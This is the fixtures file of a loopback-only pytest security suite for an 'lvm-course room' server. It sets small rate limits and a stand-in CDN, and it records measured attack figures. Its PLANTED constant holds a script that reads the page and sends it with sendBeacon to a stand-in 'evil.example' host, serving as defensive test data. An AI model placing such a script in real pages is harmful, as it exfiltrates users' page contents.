"""The attack suite's fixtures: a real room on 127.0.0.1 with small limits, a stand-in CDN
on loopback, the facilitator's session, and the figures each probe measured.

Every probe runs against ``lvm-course room`` itself (not a stand-in), from client
addresses of 127.0.0.0/8 (:mod:`.probes`), so nothing leaves the machine. The limits
are set small (through the same ``LVM_ROOM_*`` settings a facilitator uses) so each
attack reaches them in a few seconds; each test uses its own client addresses, so
one probe's refusals never explain another's.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from ..servers import RoomServer, free_port, start_room
from .probes import http

#: what the attack figures table prints at the end of the run (probe -> figure)
FIGURES: dict[str, str] = {}

#: the limits of the attack suite's rooms (the defaults are in lvm_course/room/limits.py)
SMALL_LIMITS = {
    "LVM_ROOM_PAGES_PER_TRAINEE": "4",
    "LVM_ROOM_PAGES_PER_ADDRESS": "8",
    "LVM_ROOM_JOINS_PER_ADDRESS": "5",
    "LVM_ROOM_CONNECTIONS_PER_ADDRESS": "12",
    "LVM_ROOM_FREE_GUESSES": "4",
    "LVM_ROOM_HEADER_TIMEOUT": "2",
    "LVM_ROOM_BODY_TIMEOUT": "2",
}

PLANTED = (b"<!doctype html><html><body><script>fetch('/').then(r => r.text())"
           b".then(t => navigator.sendBeacon('http://evil.example/', t))</script>"
           b"</body></html>")


class StandInCdn(ThreadingHTTPServer):
    """A CDN on loopback that serves a planted page for every address (and counts)."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        cdn = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
                cdn.asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(PLANTED)))
                self.end_headers()
                self.wfile.write(PLANTED)

            def log_message(self, *_args) -> None:
                pass

        super().__init__(("127.0.0.1", free_port()), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/"


@pytest.fixture(scope="session")
def cdn() -> Iterator[StandInCdn]:
    server = StandInCdn()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def room(tmp_path_factory, cdn) -> Iterator[RoomServer]:
    """A room for this test module, asking the stand-in CDN for anything it lacks."""
    base = tmp_path_factory.mktemp("attack")
    server = start_room(base, env_extra={**SMALL_LIMITS, "SOLARA_ASSETS_CDN": cdn.url})
    yield server
    server.stop()


@pytest.fixture(scope="module")
def facilitator(room) -> str:
    """A Cookie header for the facilitator's session, as the facilitator link gives it."""
    landing = http(room.url, "GET", f"/facilitator?token={room.token}")
    cookie = landing.cookie("lvm_facilitator")
    assert landing.status == 303 and cookie, landing.status
    return f"lvm_facilitator={cookie}"


@pytest.fixture
def figure():
    """``figure(probe, text)``: what this probe measured, for the table at the end."""
    def record(probe: str, text: str) -> None:
        FIGURES[probe] = text
    return record


def joined(room: RoomServer, *, source: str = "127.0.0.1") -> str:
    """A new trainee's Cookie header, from their first page (a real join)."""
    first = http(room.url, "GET", "/", source=source)
    key = first.cookie("lvm_trainee")
    assert first.status == 200 and key, (first.status, first.text[:300])
    return f"lvm_trainee={key}"


def pytest_terminal_summary(terminalreporter, exitstatus, config):
    if not FIGURES:
        return
    terminalreporter.section("attack figures (tests/security)")
    for probe, text in sorted(FIGURES.items()):
        terminalreporter.write_line(f"{probe:44s} {text}")
